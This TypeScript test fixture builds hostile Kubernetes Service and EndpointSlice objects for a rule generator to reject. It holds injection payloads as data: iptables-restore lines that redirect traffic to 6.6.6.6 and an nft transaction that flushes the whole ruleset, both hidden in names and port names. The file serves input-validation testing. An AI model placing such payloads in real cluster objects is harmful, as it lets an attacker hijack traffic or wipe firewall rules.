import type { EndpointSliceLike, ServiceLike } from "../types.js";

/** One hostile input: objects a real API server would reject, and the error netrules must report. */
export interface HostileCase {
  what: string;
  services: ServiceLike[];
  endpointSlices: EndpointSliceLike[];
  /** The error expected: kind, field and the value quoted in the message. */
  error: { kind: "Service" | "EndpointSlice"; field: string; value: unknown };
  /** What of the case may be programmed: the objects left once the offending one is skipped. */
  intended: { services: ServiceLike[]; endpointSlices: EndpointSliceLike[] };
}

/** An iptables-restore payload hidden in a port name (issue 13's example). */
export const IPTABLES_BREAKOUT =
  'p" -j RETURN\n-I KUBE-SERVICES 1 -p tcp -j DNAT --to-destination 6.6.6.6:80\n-A KUBE-POSTROUTING -m comment --comment "x';

/** An nft transaction hidden in a name: closes the current line and flushes everything. */
export const NFT_BREAKOUT = "x\nflush ruleset\nadd table ip evil";

/**
 * Hostile Services and EndpointSlices. Each case's objects use their own ClusterIP `ip` (port 80,
 * endpoint `endpointIP`:8080), so that a case that slipped through would show up in the rules.
 */
export function hostileCases(ip: (i: number) => string, endpointIP: string): HostileCase[] {
  let n = 0;
  const service = (namespace: unknown, name: unknown, portName: unknown = "p"): ServiceLike => ({
    metadata: { namespace: namespace as string, name: name as string },
    spec: { clusterIP: ip(n++), ports: [{ name: portName as string, port: 80 }] },
  });
  const slice = (namespace: string, service: string, name: string, portName = "p"): EndpointSliceLike => ({
    metadata: { namespace, name, labels: { "kubernetes.io/service-name": service } },
    addressType: "IPv4",
    endpoints: [{ addresses: [endpointIP], conditions: { ready: true } }],
    ports: [{ name: portName, port: 8080, protocol: "TCP" }],
  });
  const svcCase = (
    what: string,
    namespace: unknown,
    name: unknown,
    portName: unknown,
    field: string,
    value: unknown,
  ): HostileCase => ({
    what,
    services: [service(namespace, name, portName)],
    endpointSlices:
      typeof namespace === "string" && typeof name === "string" ? [slice(namespace, name, "hostile-1")] : [],
    error: { kind: "Service", field, value },
    intended: { services: [], endpointSlices: [] },
  });
  const cases: HostileCase[] = [
    svcCase(
      "iptables-restore lines in a port name",
      "hostile",
      "a",
      IPTABLES_BREAKOUT,
      "spec.ports[0].name",
      IPTABLES_BREAKOUT,
    ),
    svcCase("a space in a Service name", "hostile", "web svc", "p", "metadata.name", "web svc"),
    svcCase("a quote in a Service name", "hostile", 'web"x', "p", "metadata.name", 'web"x'),
    svcCase("an nft transaction in a namespace", NFT_BREAKOUT, "b", "p", "metadata.namespace", NFT_BREAKOUT),
    svcCase(
      "braces and a semicolon in a port name",
      "hostile",
      "c",
      "p; } drop {",
      "spec.ports[0].name",
      "p; } drop {",
    ),
    svcCase(
      "a slash in a Service name (chain-name collision)",
      "hostile",
      "d/e",
      "p",
      "metadata.name",
      "d/e",
    ),
    svcCase("upper case in a namespace", "Hostile", "f", "p", "metadata.namespace", "Hostile"),
    svcCase("a Service name starting with a digit", "hostile", "1g", "p", "metadata.name", "1g"),
    svcCase("a 64-character Service name", "hostile", "h".repeat(64), "p", "metadata.name", "h".repeat(64)),
    svcCase("a tab and a hash in a port name", "hostile", "i", "p\t#", "spec.ports[0].name", "p\t#"),
    svcCase("a Service name that is not a string", "hostile", 42, "p", "metadata.name", 42),
  ];
  const j = service("hostile", "j");
  const jGood = slice("hostile", "j", "j-good");
  const k = service("hostile", "k");
  cases.push(
    {
      what: "an nft transaction in an EndpointSlice name (its Service keeps its good slice)",
      services: [j],
      endpointSlices: [slice("hostile", "j", NFT_BREAKOUT), jGood],
      error: { kind: "EndpointSlice", field: "metadata.name", value: NFT_BREAKOUT },
      intended: { services: [j], endpointSlices: [jGood] },
    },
    {
      what: "iptables-restore lines in an EndpointSlice port name (its Service has no endpoint left)",
      services: [k],
      endpointSlices: [slice("hostile", "k", "k-1", IPTABLES_BREAKOUT)],
      error: { kind: "EndpointSlice", field: "ports[0].name", value: IPTABLES_BREAKOUT },
      intended: { services: [k], endpointSlices: [] },
    },
  );
  return cases;
}
